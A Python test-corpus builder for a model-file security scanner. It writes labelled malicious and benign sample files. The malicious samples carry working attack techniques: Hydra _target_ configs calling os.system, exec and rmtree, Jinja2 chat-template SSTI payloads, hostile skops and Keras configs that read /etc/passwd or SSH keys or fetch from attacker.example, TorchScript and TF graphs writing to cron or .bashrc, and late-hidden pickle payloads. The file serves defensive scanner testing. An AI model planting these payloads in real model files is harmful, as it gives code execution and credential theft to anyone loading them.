"""Corpus for the 2025-26 model-file techniques (issue 27) and the hostile pickle/zip layouts of issue 26.

Malicious files are constructed byte by byte (never written by the library that would load them, never loaded);
each is built from a published technique (sources in ``SOURCES``). Benign twins come in two kinds: *library-written*
ones (OmegaConf/NeMo-style configs, transformers tokenizers with chat templates, ``skops.io.dump`` of scikit-learn
models, Keras 3 lookup layers with inline vocabularies, TorchScript, ONNX with standard ops, TF SavedModels), made
only when the library is importable, and *byte-level* ones that reproduce those layouts with the standard library
and PyYAML, so the default test run (no heavy framework) still covers every class.

    python tests/scan/techniques_corpus.py OUT_DIR [--bytes-only]

prints ``path<TAB>label<TAB>class<TAB>producer`` per file (label: malicious | benign | suspicious). Nothing here
loads a file; the libraries only *write*.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests.scan import craft  # noqa: E402

SOURCES = {
    "config-target": "CVE-2025-23304 (NeMo .nemo model_config.yaml _target_), Hydra instantiate docs, HyperPyYAML "
                     "!new/!apply tags, PyYAML python/object/apply, 2025 'remote code via model metadata' reports",
    "chat-template": "CVE-2024-34359 (llama-cpp-python Jinja2 SSTI) applied to tokenizer_config.json / "
                     "chat_template.jinja; classic Jinja2 SSTI payloads (cycler/lipsum/self globals, |attr)",
    "skops": "skops get_untrusted_types model; skops schema.json node format (FunctionNode/ObjectNode/...)",
    "auto-map": "transformers dynamic_module_utils 'repo--module.Class' references (remote code from another repo)",
    "keras-file-access": "CVE-2025-12058 (StringLookup vocabulary path), CVE-2025-8747 (get_file), Keras "
                         "TorchModuleWrapper (torch.load of embedded bytes), TFSMLayer",
    "torchscript": "CVE-2025-32434 context: TorchScript __setstate__ runs during torch.jit.load; torch.save writes",
    "tf-savedmodel": "TF op allow-listing: WriteFile, PrintV2(output_stream=file://), SaveV2 to a constant path",
    "late-pickle": "issue 26: payload after a long first string / 200k+ harmless opcodes",
    "zip-member-limit": "issue 26: torch zip with 10,000+ storages, then data.pkl with a payload",
}


@dataclass
class Item:
    path: Path
    label: str  # malicious | benign | suspicious
    cls: str
    producer: str = "bytes"


Written = list[Item]
CMD = "touch /tmp/mlaudit-corpus-pwned"


def _tar(path: Path, members: list[tuple[str, bytes]], gz: bool = False) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            tf.addfile(info, io.BytesIO(data))
    raw = buf.getvalue()
    path.write_bytes(gzip.compress(raw, mtime=0) if gz else raw)
    return path


def _torch_pickle_state() -> bytes:
    return craft.benign_state_dict()


def _payload_pickle() -> bytes:
    return craft.proto(2) + craft.global_("os", "system") + b"(" + craft.string0(CMD) + b"tR."


# -- Hydra / OmegaConf --------------------------------------------------------------------------------------
_NEMO_BENIGN_YAML = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_models.EncDecCTCModel
nemo_version: 1.23.0
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 10
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 2
  d_model: 64
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 64
  num_classes: 28
  vocabulary: [" ", "a", "b", "c"]
optim:
  name: adamw
  lr: 0.001
  sched:
    name: CosineAnnealing
    warmup_steps: 100
"""


def _nemo(path: Path, yaml_text: str, *, gz: bool = False, nested: bool = False) -> Path:
    name = "./model_config.yaml" if nested else "model_config.yaml"
    return _tar(path, [(name, yaml_text.encode()), ("model_weights.ckpt", craft.zip_bytes(
        [("archive/data.pkl", _torch_pickle_state()), ("archive/version", b"3\n")])),
        ("tokenizer.model", b"\x0a\x05hello")], gz=gz)


def _inject(yaml_text: str, block: str) -> str:
    return yaml_text + block


def config_malicious(out: Path) -> Written:
    d = out / "config-target"
    d.mkdir(parents=True, exist_ok=True)
    items: Written = []

    def add(p: Path) -> None:
        items.append(Item(p, "malicious", "config-target"))

    add(_nemo(d / "asr_os_system.nemo", _inject(_NEMO_BENIGN_YAML, (
        f"loss:\n  _target_: os.system\n  _args_: ['{CMD}']\n"))))
    add(_nemo(d / "asr_popen_gz.nemo", _inject(_NEMO_BENIGN_YAML, (
        f"decoding:\n  strategy: greedy\n  greedy:\n    _target_: subprocess.Popen\n    args: ['sh', '-c', '{CMD}']\n"
    )), gz=True))
    add(_nemo(d / "nested_list_exec.nemo", _inject(_NEMO_BENIGN_YAML, (
        "callbacks:\n  - - name: early\n      hooks:\n        - _target_: builtins.exec\n"
        f"          _args_: [\"import os; os.system('{CMD}')\"]\n")), nested=True))
    add(_nemo(d / "partial_eval.nemo", _inject(_NEMO_BENIGN_YAML, (
        "metric:\n  _target_: builtins.eval\n  _partial_: true\n  _recursive_: false\n"))))
    add(_nemo(d / "get_method.nemo", _inject(_NEMO_BENIGN_YAML, (
        "hook:\n  _target_: hydra.utils.get_method\n  path: os.system\n"))))
    add(_nemo(d / "import_module_gz.nemo", _inject(_NEMO_BENIGN_YAML, (
        "plugin:\n  _target_: importlib.import_module\n  name: attacker_pkg\n")), gz=True))
    add(_nemo(d / "alias_hidden.nemo", _inject(_NEMO_BENIGN_YAML, (
        "defaults_x: &callable_name os.system\nmodel_hooks:\n  _target_: *callable_name\n"
        f"  _args_: ['{CMD}']\n"))))
    plain = d / "hydra_run" / "config.yaml"
    plain.parent.mkdir(exist_ok=True)
    plain.write_text("model:\n  _target_: subprocess.run\n  args: ['sh', '-c', '" + CMD + "']\n  shell: false\n")
    add(plain)
    (d / "hydra_run" / "model.safetensors").write_bytes(craft.safetensors(
        {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4))
    write = d / "train_config.yml"
    write.write_text("model:\n  _target_: pathlib.Path.write_text\n  self: /home/user/.bashrc\n  data: 'curl x|sh'\n")
    add(write)
    ts_json = d / "timeseries_config.json"
    ts_json.write_text(json.dumps({"model": {"_target_": "uni2ts.model.moirai.MoiraiModule", "d_model": 64,
                                             "distr_output": {"_target_": "os.system", "_args_": [CMD]}}}))
    add(ts_json)
    vision_json = d / "vision_config.json"
    vision_json.write_text(json.dumps({"backbone": {"_target_": "timm.create_model", "model_name": "resnet18"},
                                       "post": [{"_target_": "shutil.rmtree", "path": "/home"}]}))
    add(vision_json)
    fetch = d / "fetch_config.yaml"
    fetch.write_text("encoder:\n  _target_: torch.hub.load\n  repo_or_dir: attacker/hubrepo\n  model: backdoor\n")
    add(fetch)
    pre = d / "pretrained_config.yaml"
    pre.write_text("model:\n  _target_: transformers.AutoModel.from_pretrained\n"
                   "  pretrained_model_name_or_path: attacker/remote-code\n  trust_remote_code: true\n")
    add(pre)
    tune = d / "torchtune_recipe.yaml"
    tune.write_text("model:\n  _component_: torchtune.models.llama3_2.lora_llama3_2_1b\n"
                    f"tokenizer:\n  _component_: os.system\n  command: '{CMD}'\n")
    add(tune)
    sb = d / "hyperparams.yaml"
    sb.write_text(f"sample_rate: 16000\nmodules:\n  encoder: !new:speechbrain.lobes.models.CRDNN.CRDNN\n"
                  f"    input_shape: [null, null, 40]\nhook: !apply:os.system ['{CMD}']\n")
    add(sb)
    pyyaml = d / "legacy_config.yaml"
    pyyaml.write_text(f"model: resnet\nhook: !!python/object/apply:os.system ['{CMD}']\n")
    add(pyyaml)
    meta_json = {"format": "pt", "config": json.dumps({"model": {"_target_": "os.system", "_args_": [CMD]}})}
    st = d / "metadata_json.safetensors"
    st.write_bytes(_safetensors_with_metadata(meta_json))
    add(st)
    st2 = d / "metadata_flat.safetensors"
    st2.write_bytes(_safetensors_with_metadata({"_target_": "builtins.exec", "_args_": f"__import__('os').system('{CMD}')"}))
    add(st2)
    st3 = d / "metadata_yaml.safetensors"
    st3.write_bytes(_safetensors_with_metadata({"format": "pt", "hydra": (
        "model:\n  _target_: subprocess.check_output\n  args: [sh, -c, '" + CMD + "']\n")}))
    add(st3)
    return items


def _safetensors_with_metadata(meta: dict[str, str]) -> bytes:
    return craft.safetensors({"__metadata__": meta, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}},
                             b"\0" * 8)


def config_benign_bytes(out: Path) -> Written:
    import yaml

    d = out / "config-target"
    d.mkdir(parents=True, exist_ok=True)
    items: Written = []
    items.append(Item(_nemo(d / "asr_ctc.nemo", _NEMO_BENIGN_YAML), "benign", "config-target"))
    items.append(Item(_nemo(d / "asr_ctc_gz.nemo", _NEMO_BENIGN_YAML, gz=True, nested=True), "benign",
                      "config-target"))
    cfg = {"model": {"_target_": "torch.nn.Sequential", "_args_": [{"_target_": "torch.nn.Linear", "in_features": 4,
                                                                     "out_features": 2}]},
           "optimizer": {"_target_": "torch.optim.AdamW", "_partial_": True, "lr": 1e-3},
           "scheduler": {"_target_": "torch.optim.lr_scheduler.CosineAnnealingLR", "_partial_": True, "T_max": 10},
           "trainer": {"_target_": "lightning.pytorch.Trainer", "max_epochs": 3,
                       "callbacks": [{"_target_": "lightning.pytorch.callbacks.ModelCheckpoint",
                                      "monitor": "val/loss"}]}}
    p = d / "lightning_hydra" / "config.yaml"
    p.parent.mkdir(exist_ok=True)
    p.write_text(yaml.safe_dump(cfg))
    items.append(Item(p, "benign", "config-target", f"pyyaml {yaml.__version__}"))
    j = d / "moirai_config.json"
    j.write_text(json.dumps({"module_kwargs": {"_target_": "builtins.dict", "d_model": 384,
                                               "distr_output": {"_target_": "uni2ts.distribution.MixtureOutput",
                                                                "components": [{"_target_":
                                                                                "uni2ts.distribution.StudentTOutput"}]}},
                             "patch_sizes": [8, 16]}))
    items.append(Item(j, "benign", "config-target"))
    st = d / "nemo_meta.safetensors"
    st.write_bytes(_safetensors_with_metadata({"format": "pt", "config": json.dumps(
        {"encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "d_model": 64}})}))
    items.append(Item(st, "benign", "config-target"))
    sb = d / "sb_hyperparams.yaml"
    sb.write_text("modules:\n  encoder: !new:speechbrain.lobes.models.CRDNN.CRDNN\n    input_shape: [null, null, 40]\n"
                  "  act: !name:torch.nn.LeakyReLU\n")
    items.append(Item(sb, "benign", "config-target"))
    tune = d / "lora_recipe.yaml"
    tune.write_text("model:\n  _component_: torchtune.models.llama3_2.lora_llama3_2_1b\n  lora_rank: 8\n"
                    "optimizer:\n  _component_: torch.optim.AdamW\n  lr: 3e-4\n")
    items.append(Item(tune, "benign", "config-target"))
    return items


# -- chat templates -----------------------------------------------------------------------------------------
CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
          "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
LLAMA3 = ("{{- bos_token }}{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']"
          "|trim %}{%- set messages = messages[1:] %}{%- else %}{%- set system_message = '' %}{%- endif %}"
          "{{- '<|start_header_id|>system<|end_header_id|>\\n\\n' + system_message + '<|eot_id|>' }}"
          "{%- for message in messages %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
          " + message['content'] | trim + '<|eot_id|>' }}{%- endfor %}{%- if add_generation_prompt %}"
          "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}")
MISTRAL = ("{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
           "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
           "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
           "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% endif %}{% endfor %}")
TOOLS = ("{%- if tools %}{{- '<|im_start|>system\\n# Tools\\n<tools>' }}{%- for tool in tools %}{{- '\\n' }}"
         "{{- tool | tojson }}{%- endfor %}{{- '\\n</tools><|im_end|>\\n' }}{%- endif %}"
         "{%- for message in messages %}{%- if message.role == 'tool' %}{{- '<tool_response>\\n' + message.content"
         " + '\\n</tool_response>' }}{%- else %}{{- '<|im_start|>' + message.role + '\\n' + message.content + "
         "'<|im_end|>\\n' }}{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}"
         "{%- endif %}{{ strftime_now('%d %b %Y') if date_string is not defined else '' }}")
BENIGN_TEMPLATES = {"chatml": CHATML, "llama3": LLAMA3, "mistral": MISTRAL, "tools": TOOLS}

SSTI = {
    "cycler_globals": "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}",
    "lipsum_builtins": "{{ lipsum.__globals__['__builtins__']['__import__']('os').system('" + CMD + "') }}",
    "self_template": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('" + CMD + "') }}",
    "attr_chain": "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "escaped_dunder": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}",
    "mro_subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
                      "{{ c(['sh', '-c', '" + CMD + "']) }}{% endif %}{% endfor %}",
    "include_file": "{% include '/etc/passwd' %}{{ messages[0]['content'] }}",
    "request_globals": "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
}


def templates_malicious(out: Path) -> Written:
    d = out / "chat-template"
    d.mkdir(parents=True, exist_ok=True)
    items: Written = []
    names = list(SSTI)
    for i, key in enumerate(names):
        ssti = SSTI[key]
        tpl = CHATML + ssti  # the payload rides on an ordinary template
        sub = d / key
        sub.mkdir(exist_ok=True)
        kind = i % 4
        if kind == 0:
            p = sub / "tokenizer_config.json"
            p.write_text(json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "bos_token": "<s>",
                                     "chat_template": tpl}))
        elif kind == 1:
            p = sub / "tokenizer_config.json"
            p.write_text(json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": [
                {"name": "default", "template": CHATML}, {"name": "tool_use", "template": tpl}]}))
        elif kind == 2:
            p = sub / "chat_template.jinja"
            p.write_text(tpl)
        else:
            p = sub / "chat_template.json"
            p.write_text(json.dumps({"chat_template": tpl}))
        items.append(Item(p, "malicious", "chat-template"))
    extra = d / "tokenizer" / "tool_use.jinja"
    extra.parent.mkdir(exist_ok=True)
    extra.write_text(TOOLS + SSTI["cycler_globals"])
    items.append(Item(extra, "malicious", "chat-template"))
    return items


def templates_benign_bytes(out: Path) -> Written:
    d = out / "chat-template"
    d.mkdir(parents=True, exist_ok=True)
    items: Written = []
    for name, tpl in BENIGN_TEMPLATES.items():
        sub = d / name
        sub.mkdir(exist_ok=True)
        (sub / "tokenizer_config.json").write_text(json.dumps({"tokenizer_class": "PreTrainedTokenizerFast",
                                                               "chat_template": tpl}))
        (sub / "chat_template.jinja").write_text(tpl)
        items += [Item(sub / "tokenizer_config.json", "benign", "chat-template"),
                  Item(sub / "chat_template.jinja", "benign", "chat-template")]
    multi = d / "multi" / "tokenizer_config.json"
    multi.parent.mkdir(exist_ok=True)
    multi.write_text(json.dumps({"chat_template": [{"name": k, "template": v} for k, v in BENIGN_TEMPLATES.items()]}))
    items.append(Item(multi, "benign", "chat-template"))
    return items


# -- skops --------------------------------------------------------------------------------------------------
def _skops_node(module: str, cls: str, loader: str, content: object = None) -> dict[str, object]:
    node: dict[str, object] = {"__class__": cls, "__module__": module, "__loader__": loader}
    if content is not None:
        node["content"] = content
    return node


def _skops_estimator(extra_attr: dict[str, object]) -> dict[str, object]:
    content = {"C": {"__class__": "float", "__module__": "builtins", "__loader__": "JsonNode", "content": "1.0",
                     "is_json": True}, **extra_attr}
    return {**_skops_node("sklearn.linear_model._logistic", "LogisticRegression", "ObjectNode", content),
            "protocol": 2, "_skops_version": "0.10.0"}


def _skops(path: Path, schema: dict[str, object]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("schema.json", json.dumps(schema))
        zf.writestr("0d1c.npy", craft.npy("<f8", (2,), struct.pack("<2d", 1, 2)))
    return path


def skops_malicious(out: Path) -> Written:
    d = out / "skops"
    d.mkdir(parents=True, exist_ok=True)
    cases = {
        "eval_function.skops": {"callback": _skops_node("builtins", "eval", "FunctionNode")},
        "os_system_transformer.skops": {"steps": _skops_node("sklearn.preprocessing._function_transformer",
                                                             "FunctionTransformer", "ObjectNode",
                                                             {"func": _skops_node("os", "system", "FunctionNode")})},
        "methodcaller.skops": {"key": _skops_node("operator", "methodcaller", "OperatorFuncNode",
                                                  {"attrs": ["system", CMD]})},
        "popen_object.skops": {"proc": _skops_node("subprocess", "Popen", "ObjectNode", {"args": CMD})},
        "import_module.skops": {"loader": _skops_node("importlib", "import_module", "FunctionNode")},
        "partial_exec.skops": {"f": _skops_node("functools", "partial", "PartialNode", {
            "func": _skops_node("builtins", "exec", "FunctionNode"), "args": [CMD], "kwds": {}})},
    }
    return [Item(_skops(d / name, _skops_estimator(extra)), "malicious", "skops") for name, extra in cases.items()]


def skops_benign_bytes(out: Path) -> Written:
    d = out / "skops"
    d.mkdir(parents=True, exist_ok=True)
    schema = _skops_estimator({"classes_": _skops_node("numpy", "ndarray", "NdArrayNode", None),
                               "fn": _skops_node("numpy", "log1p", "FunctionNode"),
                               "params": _skops_node("builtins", "dict", "DictNode", {})})
    return [Item(_skops(d / "logreg.skops", schema), "benign", "skops")]


# -- auto_map -----------------------------------------------------------------------------------------------
def automap_malicious(out: Path) -> Written:
    d = out / "auto-map"
    items: Written = []
    docs = {
        "model_a/config.json": {"model_type": "llama", "auto_map": {
            "AutoConfig": "configuration_llama.LlamaConfig", "AutoModelForCausalLM": "evil-org/payload--modeling.M"}},
        "model_b/tokenizer_config.json": {"tokenizer_class": "T", "auto_map": {
            "AutoTokenizer": ["evil-org/tok--tokenization.T", None]}},
        "model_c/config.json": {"auto_map": {"AutoModel": "someone/shared-code@main--modeling_x.XModel"}},
        "model_d/config.json": {"custom_pipelines": {"text-classification": {
            "impl": "evil-org/pipes--pipeline.Pipe", "pt": ["AutoModelForSequenceClassification"]}}},
    }
    for rel, doc in docs.items():
        p = d / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(json.dumps(doc, indent=2))
        items.append(Item(p, "malicious", "auto-map"))
    return items


def automap_benign_bytes(out: Path) -> Written:
    p = out / "auto-map" / "local" / "config.json"
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(json.dumps({"model_type": "phi3", "auto_map": {
        "AutoConfig": "configuration_phi3.Phi3Config", "AutoModelForCausalLM": "modeling_phi3.Phi3ForCausalLM"}}))
    return [Item(p, "benign", "auto-map")]


# -- Keras --------------------------------------------------------------------------------------------------
def _keras_zip(path: Path, layers: list[dict[str, object]]) -> Path:
    config = {"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": layers},
              "registered_name": "Functional"}
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.11.0"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"")
    return path


def _layer(cls: str, config: dict[str, object]) -> dict[str, object]:
    return {"module": "keras.layers", "class_name": cls, "config": {"name": cls.lower(), **config},
            "registered_name": None}


def keras_malicious(out: Path) -> Written:
    d = out / "keras-file-access"
    d.mkdir(parents=True, exist_ok=True)
    wrapped = craft.zip_bytes([("archive/data.pkl", _payload_pickle()), ("archive/version", b"3\n")])
    cases = {
        "lookup_passwd.keras": [_layer("StringLookup", {"vocabulary": "/etc/passwd", "output_mode": "int"})],
        "textvec_url.keras": [_layer("TextVectorization", {"vocabulary": "https://attacker.example/vocab.txt"})],
        "intlookup_ssh.keras": [_layer("IntegerLookup", {"vocabulary": "/root/.ssh/id_rsa"})],
        "get_file.keras": [_layer("Dense", {"units": 2, "kernel_initializer": {
            "module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": None}})],
        "torch_wrapper.keras": [{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {
            "name": "tmw", "module": base64.b64encode(wrapped).decode()}, "registered_name": None}],
        "tfsm_layer.keras": [_layer("TFSMLayer", {"filepath": "/tmp/attacker_savedmodel",
                                                  "call_endpoint": "serve"})],
    }
    return [Item(_keras_zip(d / n, layers), "malicious", "keras-file-access") for n, layers in cases.items()]


def keras_benign_bytes(out: Path) -> Written:
    d = out / "keras-file-access"
    d.mkdir(parents=True, exist_ok=True)
    layers = [_layer("StringLookup", {"vocabulary": ["a", "b", "c"], "output_mode": "int"}),
              _layer("TextVectorization", {"vocabulary": None, "max_tokens": 100}),
              _layer("IntegerLookup", {"vocabulary": [1, 2, 3]})]
    return [Item(_keras_zip(d / "lookups_inline.keras", layers), "benign", "keras-file-access")]


# -- TorchScript --------------------------------------------------------------------------------------------
_TS_CODE = """class M(Module):
  __parameters__ = ["w", ]
  __buffers__ = []
  w : Tensor
  training : bool
  def forward(self: __torch__.M,
    x: Tensor) -> Tensor:
    w = self.w
{forward}    return torch.mul(x, w)
  def __getstate__(self: __torch__.M) -> Tuple[Tensor, bool]:
    return (self.w, self.training)
  def __setstate__(self: __torch__.M,
    state: Tuple[Tensor, bool]) -> NoneType:
    self.w = (state)[0]
    self.training = (state)[1]
{setstate}    return None
"""


def _torchscript(path: Path, *, forward: str = "", setstate: str = "") -> Path:
    code = _TS_CODE.format(forward=forward, setstate=setstate).encode()
    data = (craft.proto(2) + craft.global_("__torch__", "M") + b")\x81}(" + craft.sbu("training") + b"\x88u" + b"b.")
    members = [("m/data.pkl", data), ("m/code/__torch__.py", code), ("m/constants.pkl", craft.proto(2) + b").")
               , ("m/version", b"6\n")]
    path.write_bytes(craft.zip_bytes(members))
    return path


def torchscript_malicious(out: Path) -> Written:
    d = out / "torchscript"
    d.mkdir(parents=True, exist_ok=True)
    items = [
        Item(_torchscript(d / "setstate_save.pt", setstate='    torch.save(torch.ones([1]), "/etc/cron.d/x")\n'),
             "malicious", "torchscript"),
        Item(_torchscript(d / "forward_save.pt", forward='    torch.save(x, "/home/user/.bashrc")\n'),
             "malicious", "torchscript"),
        Item(_torchscript(d / "setstate_from_file.pt", setstate=(
            '    _0 = torch.from_file("/etc/shadow", True, 4096, dtype=0)\n')), "malicious", "torchscript"),
        Item(_torchscript(d / "custom_op.pt", forward="    _1 = ops.evil_ns.backdoor(x)\n"), "suspicious",
             "torchscript"),
    ]
    onnx = d / "custom_domain.onnx"
    onnx.write_bytes(craft.onnx_model(node_domain="com.attacker.ops"))
    items.append(Item(onnx, "suspicious", "torchscript"))
    ext = d / "external_passwd.onnx"
    ext.write_bytes(craft.onnx_model(external_location="../../../../etc/passwd"))
    items.append(Item(ext, "malicious", "torchscript"))
    return items


def torchscript_benign_bytes(out: Path) -> Written:
    d = out / "torchscript"
    d.mkdir(parents=True, exist_ok=True)
    onnx = d / "standard_ops.onnx"
    onnx.write_bytes(craft.onnx_model())
    return [Item(_torchscript(d / "scripted.pt"), "benign", "torchscript"), Item(onnx, "benign", "torchscript")]


# -- TF SavedModel ------------------------------------------------------------------------------------------
def _attr(key: str, value: bytes) -> bytes:
    return craft.pfield(5, craft.pfield(1, key) + craft.pfield(2, value))


def _node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    return craft.pfield(1, craft.pfield(1, name) + craft.pfield(2, op) + b"".join(craft.pfield(3, i) for i in inputs)
                        + attrs)


def _string_const(name: str, value: str) -> bytes:
    tensor = craft.pfield(1, 7) + craft.pfield(8, value)
    return _node(name, "Const", (), _attr("dtype", craft.pfield(6, 7)) + _attr("value", craft.pfield(8, tensor)))


def _savedmodel(path: Path, nodes: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(craft.pfield(1, 1) + craft.pfield(2, craft.pfield(2, nodes)))
    return path


def _saver(prefix_node: bytes, prefix: str) -> bytes:
    return (prefix_node + _node("save/tensor_names", "Const") + _node("save/shapes", "Const")
            + _node("save/SaveV2", "SaveV2", (prefix, "save/tensor_names", "save/shapes", "w")))


def tf_malicious(out: Path) -> Written:
    d = out / "tf-savedmodel"
    cases = {
        "write_file": _string_const("path", "/etc/cron.d/x") + _node("w", "WriteFile", ("path", "contents")),
        "print_to_file": _node("p", "PrintV2", ("fmt",), _attr("output_stream", craft.pfield(2, "file:///tmp/exfil"))),
        "save_fixed_path": _saver(_string_const("save/Const", "/home/user/.ssh/authorized_keys"), "save/Const"),
        "read_file": _string_const("f", "/etc/passwd") + _node("r", "ReadFile", ("f",)),
        "matching_files": _string_const("g", "/home/*/.aws/*") + _node("m", "MatchingFiles", ("g",)),
    }
    return [Item(_savedmodel(d / name / "saved_model.pb", nodes), "malicious", "tf-savedmodel")
            for name, nodes in cases.items()]


def tf_benign_bytes(out: Path) -> Written:
    d = out / "tf-savedmodel"
    nodes = (_node("saver_filename", "Placeholder") + _saver(b"", "saver_filename")
             + _node("p", "PrintV2", ("fmt",), _attr("output_stream", craft.pfield(2, "stderr")))
             + _node("restore", "RestoreV2", ("saver_filename",)))
    return [Item(_savedmodel(d / "printing" / "saved_model.pb", nodes), "benign", "tf-savedmodel")]


# -- issue 26: late payload, member limit ---------------------------------------------------------------------
def hostile_malicious(out: Path) -> Written:
    d = out / "late-pickle"
    d.mkdir(parents=True, exist_ok=True)
    pay = craft.global_("os", "system") + b"(" + craft.string0(CMD) + b"tR"
    late = craft.proto(2) + craft.binunicode("A" * 70_000) + b"0" + b"N0" * 110_000 + pay + b"."
    (d / "weights").write_bytes(late)
    (d / "late.pkl").write_bytes(late)
    craft.torch_zip(d / "late.pt", late)
    p0 = d / "checkpoint"
    p0.write_bytes(b"(l" + b"I1\na" * 105_000 + b"0" + pay + b".")
    items = [Item(d / n, "malicious", "late-pickle") for n in ("weights", "late.pkl", "late.pt", "checkpoint")]
    z = out / "zip-member-limit"
    z.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(z / "many_storages.pt", "w") as zf:
        for i in range(10_050):
            zf.writestr(zipfile.ZipInfo(f"archive/data/{i}"), b"\0\0\0\0")
        zf.writestr("archive/data.pkl", craft.proto(2) + pay + b".")
    items.append(Item(z / "many_storages.pt", "malicious", "zip-member-limit"))
    return items


MALICIOUS: list[Callable[[Path], Written]] = [config_malicious, templates_malicious, skops_malicious,
                                              automap_malicious, keras_malicious, torchscript_malicious,
                                              tf_malicious, hostile_malicious]
BENIGN_BYTES: list[Callable[[Path], Written]] = [config_benign_bytes, templates_benign_bytes, skops_benign_bytes,
                                                 automap_benign_bytes, keras_benign_bytes, torchscript_benign_bytes,
                                                 tf_benign_bytes]


def build(out: Path, *, bytes_only: bool = False) -> Written:
    items: Written = []
    for fn in MALICIOUS:
        items += fn(out / "malicious")
    for fn in BENIGN_BYTES:
        items += fn(out / "benign-bytes")
    if not bytes_only:
        from tests.scan import techniques_libraries

        items += techniques_libraries.build(out / "benign-libraries")
    return items


def main(argv: list[str]) -> int:
    if not argv:
        print(__doc__)
        return 2
    out = Path(argv[0])
    out.mkdir(parents=True, exist_ok=True)
    for item in build(out, bytes_only="--bytes-only" in argv):
        print(f"{item.path}\t{item.label}\t{item.cls}\t{item.producer}")
    return 0


if __name__ == "__main__":
    os.environ.setdefault("KERAS_BACKEND", "torch")
    raise SystemExit(main(sys.argv[1:]))
